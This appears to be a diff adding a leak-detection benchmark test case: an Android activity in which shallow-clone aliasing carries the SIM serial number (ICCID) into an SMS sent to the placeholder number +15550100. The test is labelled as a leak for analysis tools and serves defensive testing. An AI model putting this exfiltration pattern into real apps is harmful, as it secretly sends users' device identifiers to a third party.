@@ -1,0 +1,40 @@
+// about       clone() copies the reference only: filling the original's note fills the clone's.
+// leak        DEV_ICCID sms
+package cn.example.flow;
+
+import android.app.Activity;
+import android.content.Context;
+import android.os.Bundle;
+import android.telephony.SmsManager;
+import android.telephony.TelephonyManager;
+
+public class MainActivity extends Activity {
+  static class Note {
+    String text = "empty";
+  }
+
+  static class Folder implements Cloneable {
+    Note note = new Note();
+
+    @Override
+    public Folder clone() {
+      try {
+        Folder copy = (Folder) super.clone();
+        // The copy has the same note.
+        return copy;
+      } catch (CloneNotSupportedException e) {
+        throw new AssertionError();
+      }
+    }
+  }
+
+  @Override
+  protected void onCreate(Bundle state) {
+    super.onCreate(state);
+    TelephonyManager phone = (TelephonyManager) getSystemService(Context.TELEPHONY_SERVICE);
+    Folder folder = new Folder();
+    Folder copy = folder.clone();
+    folder.note.text = phone.getSimSerialNumber();
+    SmsManager.getDefault().sendTextMessage("+15550100", null, copy.note.text, null, null);
+  }
+}
